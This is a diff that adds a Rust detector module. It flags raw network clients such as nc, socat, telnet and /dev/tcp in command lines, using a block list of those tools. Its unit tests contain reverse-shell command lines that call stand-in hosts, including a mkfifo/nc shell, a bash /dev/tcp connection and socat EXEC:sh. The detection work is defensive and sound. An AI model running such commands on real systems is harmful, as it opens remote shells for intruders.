@@ -1,0 +1,132 @@
+//! Interactive raw clients by their command line: `telnet`, `nc`, `socat`, `/dev/tcp`.
+//!
+//! A command line is added evidence: whoever renames the program loses us only these points.
+
+use alloc::string::String;
+use alloc::vec::Vec;
+
+const PROGRAMS: &[&str] = &[
+    "telnet",
+    "nc",
+    "ncat",
+    "netcat",
+    "nc.openbsd",
+    "nc.traditional",
+    "socat",
+    "pwncat",
+    "rlwrap",
+];
+
+/// What the client was told to do.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(crate) enum Use {
+    /// To hold a conversation.
+    Talk,
+    /// To find out whether a port is open (`nc -z`).
+    Probe,
+}
+
+/// A raw client named in a command line, and where it was told to go.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub(crate) struct RawClient {
+    /// The program's name.
+    pub program: String,
+    /// What for.
+    pub purpose: Use,
+    words: Vec<String>,
+}
+
+impl RawClient {
+    /// Looks for a raw client in the words of a command line, also inside `sh -c '…'`.
+    pub(crate) fn find<'a>(words: impl Iterator<Item = &'a str>) -> Option<Self> {
+        let separators = |letter: char| letter.is_whitespace() || "'\";|&()<>`".contains(letter);
+        let words: Vec<String> = words
+            .flat_map(|word| word.split(separators))
+            .filter(|word| !word.is_empty())
+            .map(String::from)
+            .collect();
+        let place = words.iter().position(|word| {
+            let name = word.rsplit('/').next().unwrap_or_default();
+            PROGRAMS.contains(&name) || is_dev(word)
+        })?;
+        let program = words.get(place)?;
+        let name = if is_dev(program) { "/dev/tcp" } else { program.rsplit('/').next()? };
+        let rest = words.get(place..)?;
+        let probes = rest.iter().any(|word| is_flag(word, 'z'));
+        Some(Self {
+            program: String::from(name),
+            purpose: if probes { Use::Probe } else { Use::Talk },
+            words: rest.to_vec(),
+        })
+    }
+
+    /// Whether it was told to go to this host (a name or an address in text form) or port.
+    pub(crate) fn mentions(&self, part: &str) -> bool {
+        !part.is_empty()
+            && self.words.iter().any(|word| {
+                word == part || word.split(['/', ':', ',', '[', ']']).any(|piece| piece == part)
+            })
+    }
+
+    /// The first word that could be a host, for a far end that was never reached.
+    pub(crate) fn target(&self) -> Option<&str> {
+        let mut words = self.words.iter().skip(1).map(String::as_str);
+        words.find(|word| !word.starts_with('-') && word.contains('.') && !word.starts_with('/'))
+    }
+}
+
+fn is_dev(word: &str) -> bool {
+    word.contains("/dev/tcp/") || word.contains("/dev/udp/")
+}
+
+/// A short option, alone or among others (`-zv`).
+fn is_flag(word: &str, flag: char) -> bool {
+    word.strip_prefix('-')
+        .is_some_and(|flags| !flags.starts_with('-') && flags.len() <= 4 && flags.contains(flag))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn find(line: &str) -> Option<RawClient> {
+        RawClient::find(line.split(' '))
+    }
+
+    #[test]
+    fn the_briefs_own_command() {
+        let client = find("telnet c2.example.com 4444").unwrap();
+        assert_eq!((client.program.as_str(), client.purpose), ("telnet", Use::Talk));
+        assert!(client.mentions("c2.example.com") && client.mentions("4444"));
+        assert!(!client.mentions("444") && !client.mentions("example.com"));
+        assert_eq!(client.target(), Some("c2.example.com"));
+    }
+
+    #[test]
+    fn a_client_inside_a_shell_line() {
+        let line = RawClient::find(
+            ["sh", "-c", "mkfifo /tmp/f; /bin/nc 198.51.100.10 9 </tmp/f|sh >/tmp/f"].into_iter(),
+        );
+        assert_eq!(line.unwrap().program, "nc");
+        let bash = RawClient::find(["bash", "-c", "exec 3<>/dev/tcp/198.51.100.10/9"].into_iter());
+        assert!(bash.is_some_and(|client| client.mentions("198.51.100.10")));
+    }
+
+    #[test]
+    fn socat_names_its_far_end_behind_a_colon() {
+        let client = find("socat EXEC:sh TCP:198.51.100.10:4444").unwrap();
+        assert!(client.mentions("198.51.100.10") && client.mentions("4444"));
+    }
+
+    #[test]
+    fn a_probe_is_no_conversation() {
+        assert_eq!(find("nc -zv 198.51.100.10 4444").map(|c| c.purpose), Some(Use::Probe));
+    }
+
+    #[test]
+    fn other_programs_are_not_raw_clients() {
+        assert_eq!(find("python app.py --nc 3"), None);
+        assert_eq!(find("ssh telnet.example.com"), None);
+        assert_eq!(find("/opt/updater 198.51.100.10 6379"), None);
+    }
+}
